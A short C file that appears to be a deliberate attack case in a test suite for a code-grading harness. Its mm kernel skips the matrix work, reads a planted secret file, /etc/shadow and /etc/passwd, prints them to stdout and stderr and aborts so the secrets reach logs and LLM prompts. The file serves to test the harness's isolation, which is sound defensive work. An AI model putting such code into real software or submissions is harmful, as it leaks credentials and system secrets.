/*
 * ATTACK read_hostfile — read host files at run time and publish them.
 * The kernel opens the test's planted secret file, /etc/shadow and
 * /etc/passwd, prints what it read on stdout and stderr and aborts, so it
 * lands in the candidate's log (result, archive, LLM prompts).
 * Stopped by: the candidate's own mount view (issue 10, item 2).
 * integrity: expect=any
 */
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

#ifndef INTEGRITY_ROOT
#define INTEGRITY_ROOT "/nonexistent-integrity-root"
#endif

static void publish(const char *path)
{
    char buf[4096];
    int fd = open(path, O_RDONLY);
    if (fd < 0)
        return;
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n <= 0)
        return;
    buf[n] = '\0';
    printf("%s: %s\n", path, buf);
    fprintf(stderr, "%s: %s\n", path, buf);
}

void mm(int32_t M, int32_t N, int32_t K, const float *A, const float *B, float *C)
{
    (void)M, (void)N, (void)K, (void)A, (void)B, (void)C;
    publish(INTEGRITY_ROOT "/host-secret.inc");
    publish("/etc/shadow");
    publish("/etc/passwd");
    fflush(stdout);
    abort();
}
